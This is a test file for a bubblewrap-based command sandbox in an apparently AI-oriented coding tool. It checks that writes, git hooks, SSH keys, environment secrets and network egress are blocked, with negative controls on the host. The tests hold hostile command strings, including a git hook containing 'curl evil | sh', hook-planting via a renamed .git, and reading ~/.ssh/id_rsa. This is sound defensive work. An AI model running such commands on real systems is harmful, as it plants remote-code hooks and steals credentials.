// The Executor with the real OS sandbox (bubblewrap). Every rule is shown twice: the sandbox
// stops the command, and a negative control (the same command on the host, or the same bwrap
// argv with that one mount removed) shows the command would otherwise have succeeded.
import { afterAll, beforeAll, expect, test } from "bun:test";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { bwrapArgv } from "../../src/sandbox/bwrap.ts";
import { childEnv } from "../../src/sandbox/env.ts";
import { type EgressProxy, startEgressProxy } from "../../src/sandbox/egressProxy.ts";
import { createExecutor } from "../../src/sandbox/executor.ts";
import { signalGroup, signalProcess } from "../../src/sandbox/processTree.ts";
import type { ExecRequest, ProcessExecutor, SandboxSpec } from "../../src/sandbox/types.ts";
import {
  HTTP_CLIENTS,
  SELF_COMMAND,
  describeSandbox,
  eventually,
  httpGet,
  httpServer,
  machineSandbox,
  marker,
  sleepers,
} from "../support/sandboxSupport.ts";
import { makeTempDir } from "../support/tempDir.ts";

let scratch: string;
let home: string;
let executor: ProcessExecutor;
let proxy: EgressProxy;
let server: ReturnType<typeof httpServer>;

/** A new project folder, so one test's placeholders do not change another's mounts. */
function project(name: string): string {
  const root = join(scratch, name);
  mkdirSync(root, { recursive: true });
  return root;
}

function git(root: string, ...args: string[]): void {
  const result = Bun.spawnSync(["git", "-c", "init.defaultBranch=main", ...args], {
    cwd: root,
    env: { PATH: process.env.PATH ?? "", HOME: home },
  });
  if (result.exitCode !== 0) throw new Error(`git ${args.join(" ")}: ${result.stderr.toString()}`);
}

function spec(root: string, overrides: Partial<SandboxSpec> = {}): SandboxSpec {
  return { ...executor.spec(), root, ...overrides };
}

const sandboxed = (root: string, command: string, extra: Partial<ExecRequest> = {}) =>
  executor.run({ command, cwd: root, sandbox: spec(root), ...extra });
const onHost = (root: string, command: string) => executor.run({ command, cwd: root, sandbox: null });

/** Runs `command` under bwrap with the executor's argv minus the mounts at `dest` (a negative control). */
async function withoutMount(
  root: string,
  command: string,
  dest: string,
  s: SandboxSpec = spec(root),
): Promise<{ exitCode: number | null; output: string }> {
  const launcher = machineSandbox.launcher;
  if (launcher?.kind !== "bwrap") throw new Error("negative controls need bwrap");
  const env = childEnv({ base: process.env, home, tmpDir: executor.tmpDir });
  const args = bwrapArgv(s, ["/bin/bash", "-c", command], { cwd: root, disableUserns: launcher.disableUserns });
  const kept: string[] = [];
  let removed = 0;
  for (let i = 0; i < args.length; i++) {
    const flag = args[i] as string;
    if ((flag === "--ro-bind" || flag === "--bind") && args[i + 2] === dest) {
      i += 2;
      removed++;
    } else if ((flag === "--tmpfs" || flag === "--remount-ro") && args[i + 1] === dest) {
      i += 1;
      removed++;
    } else kept.push(flag);
    if (flag === "--") {
      kept.push(...args.slice(i + 1));
      break;
    }
  }
  if (removed === 0) throw new Error(`no mount at ${dest} in the argv`);
  const proc = Bun.spawn([launcher.path, ...kept], { env, stdout: "pipe", stderr: "pipe" });
  const [out, err] = await Promise.all([new Response(proc.stdout).text(), new Response(proc.stderr).text()]);
  return { exitCode: await proc.exited, output: out + err };
}

describeSandbox(
  "Executor in bubblewrap",
  () => {
    beforeAll(async () => {
      scratch = makeTempDir("garuda-sandbox-test-", { real: true });
      home = join(scratch, "home");
      mkdirSync(join(home, ".ssh"), { recursive: true });
      writeFileSync(join(home, ".ssh", "id_rsa"), "-----BEGIN OPENSSH PRIVATE KEY-----\n");
      mkdirSync(join(home, ".npm"));
      server = httpServer();
      proxy = await startEgressProxy({
        allow: [`svc.test:${server.port}`],
        resolve: async (host) => (host.endsWith(".test") ? ["127.0.0.1"] : []),
      });
      executor = await createExecutor({ root: scratch, home, selfCommand: SELF_COMMAND, probe: machineSandbox });
    });

    afterAll(async () => {
      await executor?.shutdown();
      await proxy?.close();
      server?.stop();
      if (scratch) await rm(scratch, { recursive: true, force: true });
    });

    test("writes: inside the root yes, outside no (the host can)", async () => {
      const root = project("writes");
      const sibling = project("sibling");
      const inside = await sandboxed(root, "echo ok > inside.txt && cat inside.txt");
      expect(inside).toMatchObject({ exitCode: 0, output: "ok\n" });
      const outside = await sandboxed(root, `echo x > ${home}/outside.txt`);
      expect(outside.exitCode).not.toBe(0);
      expect(outside.output).toContain("Read-only file system");
      expect((await sandboxed(root, "echo x > /etc/garuda-test")).output).toContain("Read-only file system");
      // a sibling under the host's /tmp is not even visible
      expect((await sandboxed(root, `echo x > ${sibling}/outside.txt`)).exitCode).not.toBe(0);
      // negative controls
      expect((await onHost(root, `echo x > ${home}/outside.txt && echo x > ${sibling}/outside.txt`)).exitCode).toBe(0);
      expect(readFileSync(join(home, "outside.txt"), "utf8")).toBe("x\n");
      expect(readFileSync(join(sibling, "outside.txt"), "utf8")).toBe("x\n");
    });

    test(".git/hooks cannot be changed (negative control: without its mount it can)", async () => {
      const root = project("hooks");
      git(root, "init", "-q");
      const attempt = await sandboxed(root, "echo 'curl evil | sh' > .git/hooks/pre-commit");
      expect(attempt.exitCode).not.toBe(0);
      expect(existsSync(join(root, ".git/hooks/pre-commit"))).toBe(false);
      const config = await sandboxed(root, "git config core.hooksPath /tmp/evil");
      expect(config.exitCode).not.toBe(0);
      const control = await withoutMount(
        root,
        "echo 'curl evil | sh' > .git/hooks/pre-commit",
        join(root, ".git/hooks"),
      );
      expect(control.exitCode).toBe(0);
      expect(existsSync(join(root, ".git/hooks/pre-commit"))).toBe(true);
    });

    test(
      ".garuda/settings.json cannot be created while .garuda does not exist (negative " +
        "control: without the placeholder it can)",
      async () => {
        const root = project("settings");
        const attempt = await sandboxed(root, "mkdir -p .garuda && echo '{}' > .garuda/settings.json");
        expect(attempt.exitCode).not.toBe(0);
        expect(existsSync(join(root, ".garuda/settings.json"))).toBe(false);
        const fresh = project("settings-control");
        const control = await withoutMount(
          fresh,
          "mkdir -p .garuda && echo '{}' > .garuda/settings.json",
          join(fresh, ".garuda"),
          spec(fresh),
        );
        expect(control.exitCode).toBe(0);
        expect(existsSync(join(fresh, ".garuda/settings.json"))).toBe(true);
      },
    );

    test(
      "renaming .git away to plant a new hooks folder fails (negative control: " +
        "without the pinning mount it works)",
      async () => {
        const root = project("rename");
        git(root, "init", "-q");
        const plant = "mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit";
        const attempt = await sandboxed(root, plant);
        expect(attempt.exitCode).not.toBe(0);
        expect(attempt.output).toContain("busy");
        expect(existsSync(join(root, ".git/hooks/pre-commit"))).toBe(false);
        const control = await withoutMount(root, plant, join(root, ".git"));
        expect(control.exitCode).toBe(0);
        expect(readFileSync(join(root, ".git/hooks/pre-commit"), "utf8")).toBe("evil\n");
      },
    );

    test("~/.ssh/id_rsa cannot be read (the host can)", async () => {
      const root = project("ssh");
      const attempt = await sandboxed(root, `cat ${home}/.ssh/id_rsa`);
      expect(attempt.exitCode).not.toBe(0);
      expect(attempt.output).not.toContain("PRIVATE KEY");
      expect((await onHost(root, `cat ${home}/.ssh/id_rsa`)).output).toContain("PRIVATE KEY");
    });

    test("plan mode: the root is read-only (build mode: writable)", async () => {
      const root = project("plan");
      const plan = await executor.run({
        command: "echo x > plan.txt",
        cwd: root,
        sandbox: spec(root, { projectReadOnly: true }),
      });
      expect(plan.exitCode).not.toBe(0);
      expect(plan.output).toContain("Read-only file system");
      expect((await sandboxed(root, "echo x > plan.txt")).exitCode).toBe(0);
    });

    test(
      "git works in an existing repository (add, commit), its hooks and config held; " +
        "a new repository cannot be made inside",
      async () => {
        const root = project("git");
        const identity = "-c user.name=Garuda -c user.email=garuda@example.invalid";
        // No .git: a command cannot create one (it could plant hooks git on the host runs later).
        const init = await sandboxed(root, "git init -q -b main");
        expect(init.exitCode).not.toBe(0);
        expect(existsSync(join(root, ".git", "HEAD"))).toBe(false);
        // Negative control: the same command outside the sandbox makes the repository.
        expect(Bun.spawnSync(["git", "init", "-q", "-b", "main"], { cwd: root }).exitCode).toBe(0);
        const result = await sandboxed(
          root,
          `echo hi > a.txt && git add a.txt && git ${identity} commit -q -m first && git log --format=%s`,
        );
        expect(result.output).toBe("first\n");
        expect(result.exitCode).toBe(0);
        const hook = await sandboxed(root, "echo evil > .git/hooks/pre-commit");
        expect(hook.exitCode).not.toBe(0);
        expect(
          (
            await sandboxed(
              root,
              `echo more >> a.txt && git ${identity} commit -qam second && git log --format=%s | head -1`,
            )
          ).output,
        ).toBe("second\n");
      },
    );

    test(
      "a .git/commondir a command creates is moved aside, and the output says so (git " +
        "on the host would use another folder's hooks)",
      async () => {
        const root = project("commondir");
        expect(Bun.spawnSync(["git", "init", "-q", "-b", "main"], { cwd: root }).exitCode).toBe(0);
        const planted = await sandboxed(root, "mkdir -p evil/hooks && echo ../evil > .git/commondir && echo planted");
        expect(planted.output).toContain("planted");
        expect(planted.output).toContain("made .git/commondir");
        expect(planted.output).toContain("Garuda moved it to .garuda/quarantine/");
        expect(existsSync(join(root, ".git", "commondir"))).toBe(false);
        expect(Bun.spawnSync(["git", "status", "--short"], { cwd: root }).exitCode).toBe(0);
      },
    );

    test("the npm cache is writable (negative control: without its mount npm fails)", async () => {
      const root = project("npm");
      const command = "npm cache verify && test -d ~/.npm/_cacache";
      const env = { NPM_CONFIG_UPDATE_NOTIFIER: "false" };
      const result = await sandboxed(root, command, { env });
      expect(result.exitCode).toBe(0);
      expect((await sandboxed(root, "touch ~/not-a-cache")).output).toContain("Read-only file system");
      const control = await withoutMount(root, `NPM_CONFIG_UPDATE_NOTIFIER=false ${command}`, join(home, ".npm"));
      expect(control.exitCode).not.toBe(0);
    });

    for (const client of HTTP_CLIENTS) {
      test(
        `network (${client}): only through the proxy, only to allowed hosts (the host ` +
          `reaches the server directly)`,
        async () => {
          const root = project(`net-${client}`);
          const s = spec(root, { network: proxy.network });
          const get = (url: string, direct = false) =>
            executor.run({ command: httpGet(url, { client, direct }), cwd: root, sandbox: s });
          expect((await get(server.url("/in", "svc.test"))).output).toBe("hello /in\n");
          const refused = await get(server.url("/out", "other.test"));
          expect(refused.output).toContain("Garuda's egress proxy refused other.test");
          const direct = await get(server.url("/direct"), true);
          expect(direct.exitCode).not.toBe(0);
          expect(direct.output).not.toContain("hello");
          // negative controls: on the host the server answers directly; without the proxy there is no network at all
          expect(
            (
              await executor.run({
                command: httpGet(server.url("/direct"), { client, direct: true }),
                cwd: root,
                sandbox: null,
              })
            ).output,
          ).toBe("hello /direct\n");
          expect(
            (
              await executor.run({
                command: httpGet(server.url("/in", "svc.test"), { client }),
                cwd: root,
                sandbox: spec(root),
              })
            ).exitCode,
          ).not.toBe(0);
        },
      );
    }

    test(
      "cancel: a `setsid sleep &` started by the command is gone (negative control: " +
        "it outlives a plain group kill)",
      async () => {
        const root = project("cancel");
        const tag = marker();
        const controller = new AbortController();
        const pending = sandboxed(root, `setsid sleep ${tag} & echo started; wait`, { signal: controller.signal });
        await eventually(() => sleepers(tag).length === 1);
        controller.abort();
        expect((await pending).killed).toBe(true);
        await eventually(() => sleepers(tag).length === 0);
        // negative control (host): the group alone does not hold a setsid child
        const other = marker();
        const proc = Bun.spawn(["bash", "-c", `setsid sleep ${other} & wait`], {
          env: { PATH: process.env.PATH ?? "" },
          detached: true,
        });
        try {
          await eventually(() => sleepers(other).length === 1);
          signalGroup(proc.pid, "SIGKILL");
          await Bun.sleep(100);
          expect(sleepers(other)).toHaveLength(1);
        } finally {
          signalGroup(proc.pid, "SIGKILL");
          for (const pid of sleepers(other)) signalProcess(pid, "SIGKILL");
        }
      },
    );

    test(
      "a process left behind ends with the command (PID namespace), and the command " + "sees none of the host's",
      async () => {
        const root = project("pidns");
        const tag = marker();
        const result = await sandboxed(root, `setsid sleep ${tag} & ls /proc | grep -cE '^[0-9]+$'`);
        expect(Number(result.output.trim())).toBeLessThan(10);
        await eventually(() => sleepers(tag).length === 0);
      },
    );

    test("cancel sends SIGTERM first inside the sandbox", async () => {
      const root = project("term");
      const controller = new AbortController();
      const result = await sandboxed(root, "trap 'echo cleaning up; exit 7' TERM; echo ready; sleep 30 & wait", {
        signal: controller.signal,
        onOutput: (chunk) => chunk.includes("ready") && controller.abort(),
      });
      expect(result.output).toBe("ready\ncleaning up\n");
      expect(result.killed).toBe(true);
    });

    test("a provider key in process.env is not in the sandboxed environment", async () => {
      const root = project("env");
      process.env.ANTHROPIC_API_KEY = "sk-ant-sandbox-leak";
      try {
        const result = await sandboxed(root, "env; cat /proc/self/environ");
        expect(result.exitCode).toBe(0);
        expect(result.output).toContain(`HOME=${home}`);
        expect(result.output).not.toContain("sk-ant-sandbox-leak");
      } finally {
        delete process.env.ANTHROPIC_API_KEY;
      }
    });

    test("timeout ends a sandboxed command and everything in it", async () => {
      const root = project("timeout");
      const tag = marker();
      const started = Date.now();
      const result = await sandboxed(root, `sleep ${tag} & sleep ${tag}`, { timeoutMs: 300 });
      expect(result.timedOut).toBe(true);
      expect(Date.now() - started).toBeLessThan(2500);
      await eventually(() => sleepers(tag).length === 0);
    });

    test("/tmp is the session's own: the host's /tmp is hidden, writes land in the session tmp", async () => {
      const root = project("tmp");
      const hostFile = join(tmpdir(), `garuda-host-visible-${marker()}`);
      writeFileSync(hostFile, "host");
      try {
        const result = await sandboxed(
          root,
          `test -e ${hostFile} && echo visible; echo mine > /tmp/own.txt; echo $TMPDIR`,
        );
        expect(result.output).toBe(`${executor.tmpDir}\n`);
        expect(readFileSync(join(executor.tmpDir, "own.txt"), "utf8")).toBe("mine\n");
      } finally {
        await rm(hostFile, { force: true });
      }
    });

    test("shutdown ends sandboxed commands too", async () => {
      const root = project("shutdown");
      const own = await createExecutor({
        root,
        home,
        selfCommand: SELF_COMMAND,
        probe: machineSandbox,
        killGraceMs: 300,
      });
      const tag = marker();
      const a = own.run({ command: `sleep ${tag}`, cwd: root, sandbox: { ...own.spec(), network: proxy.network } });
      const b = await own.start({ command: `sleep ${tag}`, cwd: root, sandbox: own.spec() });
      await eventually(() => sleepers(tag).length === 2);
      await own.shutdown();
      expect((await a).killed).toBe(true);
      expect((await b.exited).killed).toBe(true);
      expect(sleepers(tag)).toEqual([]);
    });

    test(
      "without a working proxy nothing runs: a socket that does not answer stops the " +
        "bridge (exit 125), a missing one stops bwrap",
      async () => {
        const root = project("noproxy");
        const dead = join(scratch, "dead.sock");
        writeFileSync(dead, "");
        const silent = await executor.run({
          command: "echo should-not-run",
          cwd: root,
          sandbox: spec(root, { network: { mode: "proxy", socketPath: dead, token: "t" } }),
        });
        expect(silent.exitCode).toBe(125);
        expect(silent.output).toContain("did not answer");
        expect(silent.output).not.toContain("should-not-run");
        const gone = await startEgressProxy({});
        await gone.close();
        const missing = await executor.run({
          command: "echo should-not-run",
          cwd: root,
          sandbox: spec(root, { network: gone.network }),
        });
        expect(missing.exitCode).not.toBe(0);
        expect(missing.output).not.toContain("should-not-run");
      },
    );
  },
  "bwrap",
);
